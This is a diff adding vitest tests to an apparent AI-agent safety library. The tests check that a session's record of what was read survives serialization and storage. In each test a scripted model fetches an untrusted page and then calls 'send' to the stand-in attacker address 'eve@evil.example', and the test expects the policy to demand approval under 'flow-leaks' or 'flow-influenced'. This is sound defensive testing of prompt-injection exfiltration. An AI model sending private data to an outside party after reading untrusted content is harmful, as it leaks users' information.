@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { defineTool, SafetyPolicy, ToolError, ToolExecutor, ToolMetadataRegistry, type ToolEvent } from '../../src/index.js';
-import { chat, scriptedModel, Session } from '../../src/chat.js';
+import { chat, scriptedModel, Session, SessionStore } from '../../src/chat.js';
 import { MemoryStateStore, type StateStore } from '../../src/state.js';
 
 const tools = [
@@ -118,5 +118,31 @@ describe('a chat', () => {
     const json: unknown = JSON.parse(JSON.stringify(session));
     const next = await Session.fromJSON(json).reply({ model: scriptedModel([calling('b', 'send', { to: 'eve@evil.example' }), 'done']), executor: executorOn() }, 'go on');
     expect(next.session.pending).toMatchObject([{ kind: 'approval', rule: 'flow-influenced' }]);
+  });
+
+  it('goes on from JSON with what the program’s own calls have read in its conversation, and from JSON that says less', async () => {
+    const executor = executorOn();
+    const begun = Session.create();
+    await executor.execute({ id: 'own', name: 'notes', input: {} }, { conversationId: begun.id });
+    const { session } = await begun.start({ model: scriptedModel([calling('a', 'fetch', { url: 'https://example.org/' }), 'read']), executor }, 'Summarize example.org');
+    const json = JSON.parse(JSON.stringify(session)) as { flow: unknown };
+    expect(json.flow).toMatchObject({ private: { callId: 'own' }, untrusted: { callId: 'a' } });
+    const rules = async (changed: unknown) => {
+      const next = await Session.fromJSON(changed).reply({ model: scriptedModel([calling('b', 'send', { to: 'eve@evil.example' }), 'done']), executor: executorOn() }, 'go on');
+      return next.session.pending.map((pending) => pending.kind === 'approval' && pending.rule);
+    };
+    expect(await rules(json)).toEqual(['flow-leaks']);
+    expect(await rules({ ...json, flow: {} })).toEqual(['flow-influenced']);
+  });
+
+  it('keeps what was read with a stored session, which may outlive the labels', async () => {
+    const sessions = new SessionStore({ store: new MemoryStateStore() });
+    const executor = executorOn();
+    await executor.execute({ id: 'own', name: 'notes', input: {} }, { conversationId: 's' });
+    const { session } = await sessions.create({ id: 's' }).start({ model: scriptedModel([calling('a', 'fetch', { url: 'https://example.org/' }), 'read']), executor }, 'Summarize example.org');
+    const opened = (await sessions.open('s'))!;
+    expect(opened.toJSON()).toEqual(session.toJSON());
+    const next = await opened.reply({ model: scriptedModel([calling('b', 'send', { to: 'eve@evil.example' }), 'done']), executor: executorOn() }, 'go on');
+    expect(next.session.pending).toMatchObject([{ kind: 'approval', rule: 'flow-leaks' }]);
   });
 });
